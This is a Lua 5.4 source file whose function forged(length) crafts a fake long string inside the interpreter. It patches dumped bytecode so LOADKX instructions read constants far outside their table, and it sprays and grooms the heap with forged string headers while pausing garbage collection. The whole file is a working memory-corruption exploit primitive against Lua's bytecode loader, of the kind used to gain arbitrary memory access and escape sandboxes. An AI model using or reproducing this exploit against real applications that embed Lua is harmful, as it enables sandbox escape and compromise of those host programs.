-- forged(length): a string that claims this length. Precompiled code loads a constant from behind its own list of constants,
-- where a string of ours contains values that name forged heads of strings. (lobject.h: a TValue is value(8) tag(1) padding(7);
-- the head of a long TString is next(4) tag(1) marked(1) extra(1) shrlen(1) hash(4) length(4).)
local LONG_STRING <const> = 0x14
local COLLECTABLE <const> = 0x40
local HEADER <const> = 16
local LOADK <const>, LOADKX <const>, EXTRAARG <const> = 3, 4, 82
local VALUES <const> = 4096 -- in one block of them

local function address(value) return tonumber(("%p"):format(value):sub(3), 16) end

-- A function that returns two of its constants, by index. LOADKX reaches 512 MB behind the list.
local DUMPED <const> = string.dump(load("local a, x, b, y = 1.5, 2.5, 3.5, 4.5 return a, b"), true)
local LOADS <const> = ("<I4 I4 I4 I4"):pack(LOADK, LOADK | 1 << 7 | 1 << 15, LOADK | 2 << 7 | 2 << 15, LOADK | 3 << 7 | 3 << 15)
local AT <const> = assert(DUMPED:find(LOADS, 1, true))

local function constants(one, other)
  local loads = ("<I4 I4 I4 I4"):pack(LOADKX, EXTRAARG | one << 7, LOADKX | 2 << 7, EXTRAARG | other << 7)
  return load(DUMPED:sub(1, AT - 1) .. loads .. DUMPED:sub(AT + #LOADS), "forged", "b")
end

function forged(length)
  local heads = ("<I4 I1I1I1I1 I4 I4"):pack(0, LONG_STRING, 0, 0, 0, 0, length):rep(64)
  local head = address(heads) + HEADER
  while head % 256 >= 16 do head = head + HEADER end -- its low byte is no tag of a string, for values read half a value off
  -- Lists of constants lie on multiples of 8: each block of values is half a value off from the one before it, so of two
  -- constants that are a block apart one is right. The buffer that `rep` leaves is room for small objects in front of the values.
  local block = ("<I8 I8"):pack(head, LONG_STRING | COLLECTABLE):rep(VALUES) .. ("\0"):rep(8)
  local values = block:rep(128)
  collectgarbage()
  collectgarbage "stop" -- it would follow what we make
  -- Functions fill the gaps elsewhere, so that the next one and its constants lie close together, in that room.
  local kept = {}
  for n = 1, 2000 do kept[n] = constants(0, 2) end
  local index = (address(values) + #values // 2 - address(kept[#kept])) // 16
  assert(index > 0, "the values are in front of the code")
  local one, other = constants(index, index + VALUES)()
  if type(one) == "string" then return one end
  assert(type(other) == "string", "could not forge a string")
  return other
end
